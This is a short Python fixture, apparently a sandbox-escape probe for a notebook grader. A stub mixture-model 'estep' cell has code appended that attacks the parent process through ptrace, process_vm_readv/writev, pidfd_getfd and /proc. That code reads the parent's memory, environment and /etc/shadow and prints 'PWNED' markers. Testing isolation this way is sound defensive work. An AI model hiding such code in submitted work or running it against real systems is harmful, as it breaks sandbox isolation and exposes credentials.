"""Reads, writes and stops its parent by ptrace, process_vm_readv, process_vm_writev, pidfd_getfd and /proc."""

TRACE = "PWNED_process"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import ctypes
import os
import platform

libc = ctypes.PyDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
intel = platform.machine() == "x86_64"


def call(numbers, *args):
    number = numbers[0] if intel else numbers[1]
    if number is None:
        return -1
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))


mark = "PWN" + "ED_process"
parent = os.getppid()
if call((101, 117), 0x4206, parent, 0, 0) == 0:
    call((101, 117), 17, parent, 0, 0)
    print(mark, "ptrace")
room = ctypes.create_string_buffer(8)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


here = Piece(ctypes.addressof(room), 8)
there = Piece(id(None), 8)
arguments = (parent, ctypes.addressof(here), 1, ctypes.addressof(there), 1, 0)
if call((310, 270), *arguments) == 8:
    print(mark, "process_vm_readv")
    if call((311, 271), *arguments) == 8:
        print(mark, "process_vm_writev")
handle = call((434, 434), parent, 0)
if handle >= 0:
    for number in range(32):
        if call((438, 438), handle, number, 0) >= 0:
            print(mark, "pidfd_getfd", number)
for path in ("mem", "maps", "environ", "cmdline", "fd", "root/etc/shadow", "cwd", "stack", "syscall"):
    try:
        if path in ("fd", "cwd"):
            print(mark, path, os.listdir(f"/proc/{parent}/{path}"))
        else:
            with open(f"/proc/{parent}/{path}", "rb") as file:
                if path == "mem":
                    file.seek(id(None))
                if file.read(8):
                    print(mark, path)
    except (OSError, ValueError):
        pass
""",
}
